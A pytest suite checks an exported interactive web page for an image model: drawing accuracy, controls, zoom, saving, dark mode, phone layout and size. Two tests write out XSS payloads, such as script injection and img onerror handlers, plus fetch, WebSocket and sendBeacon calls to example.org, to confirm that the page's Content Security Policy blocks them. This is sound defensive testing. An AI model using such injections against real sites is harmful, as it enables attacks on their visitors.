"""The exported web page, in a real Chromium: it draws what the program draws, and lets nothing in or out."""

import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from chromium import CANNOT_LOAD
from exported_models import lively_model
from PIL import Image

from training.config import ModelConfig
from training.export_formats import EXPORT_FORMATS
from training.exporting import export
from training.sharing import open_shared
from training.sheets import sheet_plane
from training.web_page import MOST_BYTES, TOLERANCE, web_page

STATE = """(() => {
    const copy = canvasOf(page.size);
    copy.drawImage(byId("picture"), 0, 0);
    const pixels = Array.from(copy.getImageData(0, 0, page.size, page.size).data);
    return { handle: plane.handle, pixels, view: [plane.view.x, plane.view.y, plane.view.zoom] };
})()"""
BOX = "(({ x, y, width, height }) => [x, y, width, height])(byId('plane').getBoundingClientRect())"
DESKTOP, PHONE = (1280, 800), (390, 844)


def visit(*pages, size=DESKTOP, dark=False):
    """What was seen on (path, actions …): [{"results", "requests", "messages"}]."""
    visits = [{"page": str(path), "actions": actions} for path, *actions in pages]
    done = subprocess.run(
        [sys.executable, Path(__file__).with_name("chromium.py")],
        input=json.dumps({"size": size, "dark": dark, "visits": visits}),
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    if done.returncode == CANNOT_LOAD:
        pytest.skip(f"there is no Chromium to look at the page with: {done.stderr.strip()}")
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)["visits"]


def write_page(folder, shared, **options):
    path = folder / f"{shared.about.model.size}-{shared.about.model.latent_dim}.html"
    export(shared, EXPORT_FORMATS["html"], path, **options)
    return path


def assert_drawn(shared, state):
    """The page's picture is the program's own at the handle's place."""
    _, plane = sheet_plane(shared.posteriors.means)
    expected = open_shared(shared).decode(plane.latent(np.array([state["handle"]])))[0].astype(int)
    size = shared.about.model.size
    drawn = np.array(state["pixels"]).reshape(size, size, 4)[..., :3]
    assert drawn.std() > 10  # there is something to see
    assert np.abs(drawn - expected).max() <= TOLERANCE


@pytest.fixture(scope="module")
def shared():
    return lively_model(48, 3, 2)


@pytest.fixture(scope="module")
def page(shared, tmp_path_factory):
    return write_page(tmp_path_factory.mktemp("page"), shared)


def test_the_handle_follows_mouse_finger_and_keys_and_what_is_drawn_is_what_the_program_draws(shared, page):
    (seen,) = visit(
        (
            page,
            ["evaluate", BOX],
            ["evaluate", STATE],
            ["drag", [300, 300], [350, 320], [500, 420]],
            ["evaluate", STATE],
            ["touch", [500, 300], [450, 350], [420, 380]],
            ["evaluate", STATE],
            ["press", "Left", "Shift+Up"],
            ["evaluate", STATE],
        )
    )
    (left, top, width, height), first, _, dragged, _, touched, _, stepped = seen["results"]
    scale = min(width, height) / 7  # standard deviations across, and the middle is the prior's mean
    for state, (x, y) in ((dragged, (500, 420)), (touched, (420, 380))):
        place = [(x - left - width / 2) / scale, -(y - top - height / 2) / scale]
        assert state["handle"] == pytest.approx(place, abs=1.5 / scale)
    assert np.subtract(stepped["handle"], touched["handle"]) * scale == pytest.approx([-8, 40], abs=1e-3)
    states = (first, dragged, touched, stepped)
    for state in states:
        assert_drawn(shared, state)
    assert len({json.dumps(state["pixels"]) for state in states}) == 4
    assert seen["messages"] == []


def test_the_page_asks_for_nothing_but_itself(page):
    (seen,) = visit((page, ["drag", [300, 300], [400, 400]], ["wheel", [400, 400], 3]))
    asked = [url for url in seen["requests"] if not url.startswith(("data:", "blob:"))]
    assert asked == [page.as_uri()]


def test_nothing_that_gets_into_the_page_runs_or_calls_out(page):
    attack = """(() => {
        window.hacked = [];
        const script = document.createElement("script");
        script.textContent = "window.hacked.push('script')";
        const image = document.createElement("img");
        image.src = "https://example.org/a.png";
        const link = document.createElement("link");
        Object.assign(link, { rel: "stylesheet", href: "https://example.org/a.css" });
        const frame = document.createElement("iframe");
        frame.src = "https://example.org/";
        document.body.append(script, image, link, frame);
        const markup = "<img src=x onerror=\\"window.hacked.push('handler')\\">";
        document.body.insertAdjacentHTML("beforeend", markup);
        fetch("https://example.org/").then(() => window.hacked.push("fetch"), () => {});
        try { new WebSocket("wss://example.org/"); } catch {}
        navigator.sendBeacon("https://example.org/", "x");
        return true;
    })()"""
    (seen,) = visit((page, ["evaluate", attack], ["press", "Left"], ["evaluate", "window.hacked"]))
    assert seen["results"][-1] == []
    assert not [url for url in seen["requests"] if "example.org" in url]
    assert "Content Security Policy" in " ".join(seen["messages"])


def test_a_hostile_title_is_but_text(tmp_path):
    titles = [
        "</script><script>window.hacked = 1</script>",
        "\"'><img src=x onerror=window.hacked=1><b>&amp;",
        "</title><!--<script>window.hacked=1//",
        "{{script}} {{weights}} line\u2028para\u2029graph",
    ]
    told = """({
        title: document.title,
        heading: document.querySelector("h1").textContent,
        hacked: window.hacked ?? "no",
        drawn: byId("place").textContent,
    })"""
    paths = [tmp_path / f"{number}.html" for number in range(len(titles))]
    for path, title in zip(paths, titles, strict=True):
        export(lively_model(32, 1, 2, title=title), EXPORT_FORMATS["html"], path)
    seen = visit(*((path, ["press", "Left"], ["evaluate", told]) for path in paths))
    for title, each in zip(titles, seen, strict=True):
        found = each["results"][-1]
        assert found["heading"] == title
        assert found["title"].split() == title.split()
        assert found["hacked"] == "no"
        assert found["drawn"].startswith("z₁")
        assert each["messages"] == []


# Odd feature maps (80 → 5 × 5, 240 → 15 × 15), a deep network, one and three channels, many numbers.
def test_every_network_is_drawn_as_the_program_draws_it(tmp_path):
    models = [lively_model(*settings) for settings in ((32, 1, 2), (80, 1, 3), (240, 3, 5), (64, 3, 128))]
    pages = [
        (write_page(tmp_path, shared), ["drag", [400, 400], [500, 350]], ["evaluate", STATE])
        for shared in models
    ]
    for shared, seen in zip(models, visit(*pages), strict=True):
        assert_drawn(shared, seen["results"][-1])
        assert seen["messages"] == []


def test_the_wheel_zooms_where_the_pointer_is_and_the_map_becomes_finer(page):
    level = "plane.map.wanted(plane.view, plane.ratio).level"
    (seen,) = visit(
        (
            page,
            ["evaluate", STATE],
            ["wheel", [300, 300], 30],
            ["until", "plane.map.nextMissing(plane.view, plane.ratio) === null"],
            ["evaluate", STATE],
            ["evaluate", level],
            [
                "evaluate",
                f"[...plane.map.tiles.keys()].filter((key) => key.startsWith({level} + '/')).length",
            ],
            ["drag", [400, 400], [410, 410]],
            ["press", "0"],
            ["evaluate", STATE],
        )
    )
    before, _, _, zoomed, level, fine_tiles, _, _, after = seen["results"]
    assert zoomed["handle"] == before["handle"]
    assert zoomed["view"][2] > 4
    assert zoomed["view"][0] < 0 < zoomed["view"][1]  # towards the upper left
    assert level > 0
    assert fine_tiles > 20
    assert after["view"] == [0, 0, 1]
    assert seen["messages"] == []


def test_the_picture_is_saved_as_it_is_seen(shared, page, tmp_path):
    path = tmp_path / "saved.png"
    (seen,) = visit((page, ["evaluate", STATE], ["download", "byId('save').click()", str(path)]))
    state = seen["results"][0]
    size = shared.about.model.size
    with Image.open(path) as saved:
        assert np.array_equal(saved.convert("RGBA"), np.reshape(state["pixels"], (size, size, 4)))


def test_it_follows_dark_and_light_and_fits_a_phone(page):
    told = """({
        ground: getComputedStyle(document.documentElement).backgroundColor,
        wide: document.documentElement.scrollWidth <= window.innerWidth,
        picture: byId("picture").getBoundingClientRect().bottom,
        plane: byId("plane").getBoundingClientRect().top,
        height: byId("plane").getBoundingClientRect().bottom - window.innerHeight,
    })"""
    grounds = []
    for dark in (False, True):
        (seen,) = visit((page, ["evaluate", told]), size=PHONE, dark=dark)
        (found,) = seen["results"]
        assert found["wide"]
        assert found["picture"] < found["plane"]  # no finger covers it
        assert found["height"] <= 0  # both in sight at once
        grounds.append(int(found["ground"].removeprefix("rgb(").split(",")[0]))
    assert grounds[0] > 200
    assert grounds[1] < 60


def test_points_can_be_left_out(shared):
    with_points, _ = web_page(shared, open_shared(shared), with_points=True)
    without, _ = web_page(shared, open_shared(shared), with_points=False)
    held_out = f'"heldOut":[{round(float(shared.posteriors.means[0, 0]), 3)},'.encode()
    assert held_out in with_points
    assert held_out not in without
    assert b'"learned":[]' in without


@pytest.mark.parametrize(("size", "channels"), [(32, 1), (64, 3), (128, 3), (256, 3)])
def test_a_page_is_small_enough_to_send(size, channels):
    shared = lively_model(size, channels, 128, pictures=10_000)
    content, _ = web_page(shared, open_shared(shared), with_points=True)
    assert len(content) < MOST_BYTES


def test_no_decoder_is_larger_than_those():
    from training.networks import build_decoder

    for size in range(32, 257, 16):
        for channels in (1, 3):
            decoder = build_decoder(ModelConfig(size, channels, 128, "gaussian"), seed=0)
            assert decoder.count_params() < 2.4e6
